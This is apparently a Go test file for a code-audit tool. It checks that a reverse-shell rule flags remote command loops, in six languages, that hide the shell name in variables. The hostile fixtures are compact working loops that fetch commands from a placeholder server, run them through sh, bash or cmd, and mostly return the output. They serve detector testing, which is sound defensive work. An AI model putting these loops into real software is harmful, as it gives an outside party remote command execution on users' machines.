package audit_test

import (
	"testing"

	"github.com/skilldex/skilldex/internal/audit"
)

// TestRemoteLoopShellVars: the remote command loop whose shell and its
// command flag are held in variables (returned by a helper, kept in a
// table) and run on a line the server answers with, in Go, Python,
// JavaScript, Rust, Ruby and Perl, is the same remote shell as
// exec.Command("sh", "-c", line). A program run with variable arguments
// in a loop that names no shell, a shell named through variables with
// no network call, and a shell run on a literal command are not.
func TestRemoteLoopShellVars(t *testing.T) {
	crit, none := audit.Critical, audit.SeverityNone
	goLoop := func(shell, run string) map[string]string {
		return map[string]string{"cmd/bridge/main.go": "package main\n\nimport (\n\t\"bufio\"\n\t\"net\"\n\t\"os/exec\"\n\t\"time\"\n)\n\n" + shell +
			"\nfunc main() {\n\tfor {\n\t\tconn, err := net.Dial(\"tcp\", relay)\n\t\tif err != nil {\n\t\t\ttime.Sleep(30 * time.Second)\n\t\t\tcontinue\n\t\t}\n" +
			"\t\tr := bufio.NewReader(conn)\n\t\tfor {\n\t\t\tline, err := r.ReadString('\\n')\n\t\t\tif err != nil {\n\t\t\t\tbreak\n\t\t\t}\n\t\t\t" + run + "\n\t\t\tconn.Write(out)\n\t\t}\n\t}\n}\n"}
	}
	helper := "func shell() (string, string) {\n\tif runtime.GOOS == \"windows\" {\n\t\treturn \"cmd\", \"/C\"\n\t}\n\treturn \"/bin/sh\", \"-c\"\n}\n"
	table := "var shellArgv = []string{\"bash\", \"-c\"}\n"
	checkRule(t, "reverse-shell", map[string]systemCase{
		"hostile/go-helper":     {goLoop(helper, "bin, flag := shell()\n\t\t\tout, _ := exec.Command(bin, flag, line).CombinedOutput()"), crit},
		"hostile/go-table":      {goLoop(table, "out, _ := exec.Command(shellArgv[0], shellArgv[1], line).CombinedOutput()"), crit},
		"hostile/py-tuple":      {map[string]string{"scripts/pair.py": "import subprocess, time, requests\nSHELL = ('/bin/sh', '-c')\nwhile True:\n    cmd = requests.get(URL).text\n    out = subprocess.run([*SHELL, cmd], capture_output=True).stdout\n    requests.post(URL, data=out)\n    time.sleep(20)\n"}, crit},
		"hostile/py-pair":       {map[string]string{"scripts/pair.py": "import subprocess, time, requests\nsh, flag = 'bash', '-c'\nwhile True:\n    cmd = requests.get(URL).text\n    out = subprocess.check_output([sh, flag, cmd])\n    requests.post(URL, data=out)\n    time.sleep(20)\n"}, crit},
		"hostile/js-spawn":      {map[string]string{"scripts/pair.js": "const { spawnSync } = require('child_process');\nconst [sh, flag] = process.platform === 'win32' ? ['cmd.exe', '/C'] : ['/bin/sh', '-c'];\nsetInterval(async () => {\n  const cmd = await (await fetch(URL)).text();\n  const r = spawnSync(sh, [flag, cmd]);\n  await fetch(URL, { method: 'POST', body: r.stdout });\n}, 20000);\n"}, crit},
		"hostile/rust-vars":     {map[string]string{"src/main.rs": "use std::process::Command;\nfn main() {\n  let (sh, flag) = if cfg!(windows) { (\"cmd\", \"/C\") } else { (\"sh\", \"-c\") };\n  loop {\n    let cmd = reqwest::blocking::get(URL).unwrap().text().unwrap();\n    Command::new(sh).arg(flag).arg(&cmd).output().unwrap();\n    std::thread::sleep(std::time::Duration::from_secs(30));\n  }\n}\n"}, crit},
		"hostile/ruby-vars":     {map[string]string{"scripts/poll.rb": "require 'net/http'\nrequire 'open3'\nSH = ['/bin/sh', '-c']\nloop do\n  cmd = Net::HTTP.get(URI(ENV['Q']))\n  out, _ = Open3.capture2e(SH[0], SH[1], cmd)\n  Net::HTTP.post(URI(ENV['Q']), out)\n  sleep 20\nend\n"}, crit},
		"hostile/perl-vars":     {map[string]string{"scripts/poll.pl": "use IO::Socket::INET;\nmy ($sh, $flag) = ('/bin/sh', '-c');\nwhile (1) {\n  my $s = IO::Socket::INET->new(PeerAddr => $host, PeerPort => 7443) or do { sleep 30; next };\n  while (my $line = <$s>) { system($sh, $flag, $line); }\n  sleep 5;\n}\n"}, crit},
		"benign/go-no-shell":    {goLoop("var tool = \"git\"\n", "out, _ := exec.Command(tool, sub, line).CombinedOutput()"), none},
		"benign/go-literal":     {goLoop(helper, "out, _ := exec.Command(\"/bin/sh\", \"-c\", \"uptime\").CombinedOutput()"), none},
		"benign/go-offline":     {map[string]string{"cmd/run/main.go": "package main\n\nimport (\n\t\"os\"\n\t\"os/exec\"\n\t\"time\"\n)\n\n" + helper + "\nfunc main() {\n\tbin, flag := shell()\n\tfor {\n\t\texec.Command(bin, flag, os.Args[1]).Run()\n\t\ttime.Sleep(time.Second)\n\t}\n}\n"}, none},
		"benign/js-regexp-exec": {map[string]string{"scripts/lint.js": "const re = /sh/;\nconst s = ['bash', '-c'];\nsetTimeout(() => fetch(URL).then(r => r.text()).then(t => re.exec(t, a, b)), 100);\n"}, none},
	})
}
